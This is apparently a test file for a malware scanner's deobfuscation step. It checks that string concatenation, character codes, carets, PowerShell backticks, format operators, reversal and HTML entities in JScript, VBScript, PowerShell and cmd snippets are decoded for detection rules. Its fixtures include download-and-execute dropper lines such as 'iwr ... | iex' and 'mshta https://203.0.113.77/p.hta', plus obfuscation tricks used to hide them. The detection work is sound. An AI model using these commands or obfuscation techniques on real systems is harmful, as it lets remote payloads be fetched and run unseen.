"""Light deobfuscation: concatenation, character codes, -join and atob rewritten, never run."""

from __future__ import annotations

import hashlib

from helpers import finding_keys

from scanner.api import Scanner
from scanner.config import Settings
from scanner.extract.deobfuscate import deobfuscate
from scanner.extract.script import wants as script_wants
from scanner.filetypes import identify
from scanner.models import Item


def wants(data: bytes) -> bool:
    """The probe the scanner asks before it makes the view (`script.wants`, one Aho-Corasick pass)."""
    item = Item(data=data, name="t.txt", lineage=("t.txt",), filetype=identify(data, "t.txt"),
                sha256=hashlib.sha256(data).hexdigest())
    return script_wants(item)


def test_jscript_concatenation_and_fromcharcode() -> None:
    src = 'var x = new ActiveXObject("MSX" + "ML2." + "XMLHTTP"); var s = String.fromCharCode(87,83,0x63);'
    assert deobfuscate(src) == 'var x = new ActiveXObject("MSXML2.XMLHTTP"); var s = "WSc";'


def test_vbscript_chr_and_line_continuations() -> None:
    src = 'Set o = CreateObject(Chr(77) & Chr(83) & "XML2.XMLHTTP")\nSet s = CreateObject("WScr" & _\n  "ipt.Shell")'
    assert deobfuscate(src) == 'Set o = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("WScript.Shell")'


def test_powershell_char_and_join() -> None:
    src = "$a = (105,101,120 | % { [char]$_ }) -join ''; $b = -join [char[]](105,119,114); & ([char]73+[char]69)"
    assert deobfuscate(src) == '$a = "iex"; $b = "iwr"; & ("IE")'


def test_atob_of_text_only() -> None:
    assert deobfuscate('eval(atob("V1NjcmlwdC5TaGVsbC5SdW4="));') == 'eval("WScript.Shell.Run");'
    binary = 'x = atob("TVqQAAMAAAAEAAAA//8AALgAAAAA");'
    assert deobfuscate(binary) is None  # base64 of binary is left alone


def test_nothing_to_rewrite_and_bad_input() -> None:
    assert deobfuscate("plain text without tricks") is None
    assert deobfuscate('"a" + "b"') is None  # too small a change to be obfuscation
    assert deobfuscate("String.fromCharCode(99999, 0x110000, 0)") is None  # no valid character: no change
    deobfuscate('"' * 10000 + " + " * 5000)  # pathological input returns, whatever it makes of it
    assert not wants(b"hello world")
    assert wants(b'x = "a" + "b"')


def test_view_is_a_child_the_rules_see() -> None:
    from pathlib import Path
    repo = Path(__file__).resolve().parents[2]
    report = Scanner(Settings(result_cache=False)).scan_file(str(repo / "samples/lures/droppers/obfuscated_update.js"))
    assert "yara:SCAM_Dropper_WSH_Download_Execute" in finding_keys(report)
    hits = [f for f in report.findings if f.id == "SCAM_Dropper_WSH_Download_Execute"]
    assert hits and all(f.location[-1] == "deobfuscated.txt" for f in hits)  # the original hides its words


def test_reversed_strings_are_turned_round() -> None:
    src = 'var c = "ath.p/77.311.0.302//:sptth athsm".split("").reverse().join("");'
    assert deobfuscate(src) == 'var c = "mshta https://203.0.113.77/p.hta";'
    assert deobfuscate("x = [...'ath.p/1.2.3.4//:sptth athsm'].reverse().join('');") == \
        'x = "mshta https://4.3.2.1/p.hta";'


def test_character_references_to_letters_and_operators_are_decoded() -> None:
    src = "<p>Press Win &#43; R, then Ctrl &plus; V and &#x45;nter</p>"
    assert deobfuscate(src) == "<p>Press Win + R, then Ctrl + V and Enter</p>"
    # markup and typography references stay: pages use them every day, and they hide nothing
    assert deobfuscate("Tom &amp; Jerry &lt;b&gt; it&#39;s &#8217; &quot;x&quot; &#60;") is None
    assert deobfuscate("one &#43; two") is None  # a single reference is no obfuscation
    assert wants(b"win &#43; r") and wants(b"ctrl &plus; v")


def test_cmd_carets_and_quote_pairs_inside_words() -> None:
    src = 'm^s^h^t^a.exe ht^tps://203.0.113.62/x.hta\nr"un"dl"l"32.exe url.dll,OpenURL http://x/y'
    assert deobfuscate(src) == "mshta.exe https://203.0.113.62/x.hta\nrundll32.exe url.dll,OpenURL http://x/y"
    # cmd's ordinary escapes are not inside words and stay
    assert deobfuscate('echo Tom ^& Jerry ^<b^>\nset "OUT=C:\\x y"') is None


def test_powershell_ticks_format_operator_and_calls_through_variables() -> None:
    src = ("$c = (\"{1}{0}\" -f 'wr','i'); $x = ('{1}{0}' -f 'ex','i')\n& $c -Uri http://x/f.ps1 | & $x\n"
           "i`n`v`o`k`e-e`x`p`r`e`s`s`i`o`n")
    assert deobfuscate(src) == ('$c = ("iwr"); $x = ("iex")\niwr -Uri http://x/f.ps1 | iex\ninvoke-expression')
    # tabs and newlines in strings, the format operator on variables: ordinary PowerShell, no view
    assert deobfuscate('Write-Host "a`tb`nc"; "{0} files" -f $n; $t = "git"; & $t status') is None


def test_shell_files_are_deobfuscated_whatever_their_words() -> None:
    """A .ps1 whose every tell-tale word is ticked holds none of the probe words; its name asks for the view."""
    script = "i`w`r -Uri http://203.0.113.80/f.ps1 -UseBasicParsing | i`e`x\n"
    report = Scanner(Settings(result_cache=False)).scan_bytes(script.encode(), "fix.ps1")
    hits = [f for f in report.findings if f.id == "SCAM_Dropper_PS_Download_Execute_Stealth"]
    assert hits and hits[0].location[-1] == "deobfuscated.txt"


def test_reversal_and_replacement_on_literals() -> None:
    src = ('Set h = CreateObject(StrReverse("PTTHLMX.2LMXSM")): '
           'Set s = CreateObject(Replace("WSc#ript.Sh#ell", "#", ""))\n'
           'var a = "MS#XML2.X#MLHTTP".replace(/#/g, ""); var b = "WScr@ipt.Sh@ell".split("@").join("");\n'
           "$a = 'i#e#x' -replace '#',''; $b = 'Inv~oke-Web~Request'.Replace('~','')")
    assert deobfuscate(src) == ('Set h = CreateObject("MSXML2.XMLHTTP"): Set s = CreateObject("WScript.Shell")\n'
                                'var a = "MSXML2.XMLHTTP"; var b = "WScript.Shell";\n'
                                '$a = "iex"; $b = "Invoke-WebRequest"')
    # a replacement on a variable, or with a real regular expression, is left alone (nothing is run)
    assert deobfuscate('x = Replace(path, "\\\\", "/"): y = s.replace(/[a-z]+/g, "")') is None
